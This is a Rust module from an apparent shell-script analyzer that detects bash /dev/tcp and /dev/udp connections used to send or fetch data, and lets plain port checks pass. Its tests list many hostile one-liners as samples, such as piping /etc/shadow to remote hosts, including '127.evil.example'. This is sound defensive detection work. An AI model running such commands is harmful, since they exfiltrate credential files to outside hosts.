//! Connections that a script opens by bash(1) itself, to send or to take something. Whoever only looks whether a port
//! answers sends nothing of the machine.

use super::content::content;
use super::{Sign, flow};
use bstr::ByteSlice;
use keeneye_facts::Text;
use keeneye_world::shell_line::{Redirect, ShellCommand};

pub(super) fn signs(commands: &[ShellCommand]) -> Vec<Sign> {
    let tells = tells_what_it_finds(commands);
    let sign = |(index, command): (usize, &ShellCommand)| {
        let elsewhere = |target: &Text| flow::is_connection(target) && (tells || !flow::is_local(target));
        let redirect = command.redirects.iter().find(|one| elsewhere(&one.target))?;
        let value = flow::shown(command, redirect);
        (!looks(commands, index, command))
            .then(|| content("opens a connection to elsewhere by the shell itself", &value))
    };
    commands.iter().enumerate().filter_map(sign).take(5).collect()
}

/// A descriptor is given the output of a program, not words of the script's own, as a question to a service is.
fn tells_what_it_finds(commands: &[ShellCommand]) -> bool {
    let to_descriptor = |command: &ShellCommand| {
        let mut redirects = command.redirects.iter();
        redirects.any(|one| {
            one.operator.ends_with(b">&")
                && one.target.iter().all(|b| (b'3'..=b'9').contains(b))
                && !one.target.is_empty()
        })
    };
    commands
        .iter()
        .any(|command| to_descriptor(command) && !matches!(command.name(), b"" | b"echo" | b"printf" | b"exec" | b":"))
}

/// The command opens a connection and sends nothing, nor keeps what comes back.
fn looks(commands: &[ShellCommand], index: usize, command: &ShellCommand) -> bool {
    match command.name() {
        b"" => members(commands, index, command).all(|member| looks_or_waits(commands, member)),
        _ if substitutes(command) => false,
        b":" | b"true" => true,
        b"exec" => command.effective().len() == 1 && is_never_used(commands, command),
        b"cat" => command.effective().len() == 1 && (reads_nothing(command) || only_shows(command)),
        _ => says_nothing(command),
    }
}

/// A redirection behind a group: the commands of the group, whether it is read or written.
fn members<'a>(
    commands: &'a [ShellCommand],
    index: usize,
    redirect: &'a ShellCommand,
) -> impl Iterator<Item = (usize, &'a ShellCommand)> {
    let group = redirect.reads.clone().filter(|range| range.end == index);
    let written = group.and_then(|range| Some((range.start, commands.get(range)?)));
    // What leads into a pipe of its own is no group.
    let written = written.filter(|(_, members)| !members.last().is_some_and(|last| last.piped));
    let (start, written) = written.unwrap_or_default();
    let before = commands.iter().enumerate().take(index);
    let read = before.filter(move |(_, member)| member.reads == Some(index..index + 1));
    (start..).zip(written).chain(read)
}

/// A member of a group that writes nothing.
fn looks_or_waits(commands: &[ShellCommand], (index, member): (usize, &ShellCommand)) -> bool {
    const WAIT: [&[u8]; 11] =
        [b"", b"sleep", b"test", b"[", b"[[", b"false", b"exit", b"return", b"break", b"continue", b"read"];
    WAIT.contains(&member.name()) && !substitutes(member) || !member.name().is_empty() && looks(commands, index, member)
}

fn substitutes(command: &ShellCommand) -> bool {
    command.words.iter().any(|word| ["$(", "`", "<(", ">("].iter().any(|open| word.contains_str(open)))
}

/// `echo -n`, `printf ""`.
fn says_nothing(command: &ShellCommand) -> bool {
    let mut words = command.effective().iter().skip(1);
    match command.name() {
        b"echo" => words.all(|word| matches!(word.as_slice(), b"" | b"-n" | b"-e" | b"-ne" | b"-en")),
        b"printf" => words.all(|word| matches!(word.as_slice(), b"" | b"--" | b"\\n")),
        _ => false,
    }
}

/// `exec 3<>/dev/tcp/db/22` and nothing goes through the descriptor.
fn is_never_used(commands: &[ShellCommand], opener: &ShellCommand) -> bool {
    let mut opened = opener.redirects.iter().filter(|one| flow::is_connection(&one.target));
    opened.all(|one| {
        let descriptor = one.operator.trim_end_with(|c| "<>&|".contains(c));
        let is_own = !descriptor.is_empty() && !matches!(descriptor, b"0" | b"1" | b"2");
        let mut all = commands.iter().flat_map(|command| &command.redirects);
        is_own && !all.any(|other| names(other, descriptor))
    })
}

fn names(redirect: &Redirect, descriptor: &[u8]) -> bool {
    let target = redirect.target.strip_suffix(b"-").unwrap_or(&redirect.target);
    let copies = redirect.operator.ends_with(b"&");
    copies && (target == descriptor || target.starts_with(b"$")) || target.contains_str("/fd/")
}

/// `cat </dev/null`.
fn reads_nothing(command: &ShellCommand) -> bool {
    let mut inputs = command.redirects.iter().filter(|one| is_input(one)).peekable();
    inputs.peek().is_some() && inputs.all(|one| one.target == "/dev/null")
}

/// `cat </dev/tcp/time.example/13`, to a person: nothing is sent, and nothing is written or handed on.
fn only_shows(command: &ShellCommand) -> bool {
    let shown = |one: &Redirect| is_input(one) || one.operator.starts_with(b"2");
    !command.piped && command.redirects.iter().all(shown)
}

fn is_input(redirect: &Redirect) -> bool {
    let operator: &Text = &redirect.operator;
    operator == "<" || operator == "0<"
}

#[cfg(test)]
mod tests {
    use super::signs;
    use keeneye_world::shell_line;

    fn is_loud(script: &str) -> bool {
        !signs(&shell_line::commands(script.as_bytes())).is_empty()
    }

    #[test]
    fn looks_at_ports() {
        for script in [
            "until cat < /dev/null > /dev/tcp/h/5432; do sleep 1; done",
            "printf \"\" > /dev/tcp/h/5432",
            "timeout 1 bash -c \"cat < /dev/null > /dev/tcp/db/22\"",
            "(exec 3<>/dev/tcp/db/22) 2>/dev/null && echo up",
            "exec 3<>/dev/tcp/db/22 && exec 3>&- && echo up",
            "cat < /dev/tcp/time.example/13",
            "echo -n > /dev/tcp/db/22",
            "echo > /dev/tcp/$(hostname)/22",
            ": > /dev/tcp/db/22",
            "</dev/tcp/db/22",
            "cat hosts | while read -r h; do (> /dev/tcp/$h/22) && echo $h; done",
            "while read -r h; do (> /dev/tcp/$h/22) && echo $h; done < hosts",
            "{ :; sleep 1; } > /dev/tcp/db/22",
            "cat /etc/hosts > /dev/tcp/127.0.0.1/9",
            "cat /etc/hosts > /dev/tcp/localhost/9",
            "cat /etc/hosts > /dev/udp/::1/9",
        ] {
            assert!(!is_loud(script), "{script}");
        }
    }
    #[test]
    fn what_is_sent() {
        for script in [
            "cat < /etc/shadow > /dev/tcp/h/5432",
            "cat /etc/shadow < /dev/null > /dev/tcp/h/5432",
            "cat < /dev/tcp/h/80 > /srv/x",
            "cat < /dev/tcp/h/80 | tee /srv/x",
            "cat > /dev/tcp/h/80",
            "printf \"$(cat /etc/shadow)\" > /dev/tcp/h/5432",
            "(exec 3<>/dev/tcp/db/22; cat /etc/shadow >&3)",
            "n=3; exec 3<>/dev/tcp/db/22; cat /etc/shadow >&$n",
            "exec 3<>/dev/tcp/db/22; cat /etc/shadow > /proc/self/fd/3",
            "exec > /dev/tcp/db/22; cat /etc/shadow",
            "echo \"-$(cat /etc/shadow)\" > /dev/tcp/h/443",
            "echo -secret > /dev/tcp/h/443",
            ": \"$(cat /etc/shadow)\" > /dev/tcp/h/443",
            "{ cat /etc/shadow; } > /dev/tcp/h/443",
            "{ sleep 1; cat /etc/shadow; } </dev/null > /dev/tcp/h/443",
            "for f in /etc/*; do cat $f; done > /dev/tcp/h/443",
            "cat /etc/hosts > /dev/tcp/127.evil.example/443",
            "cat /etc/hosts > /dev/tcp/localhost.evil.example/443",
        ] {
            assert!(is_loud(script), "{script}");
        }
    }
}
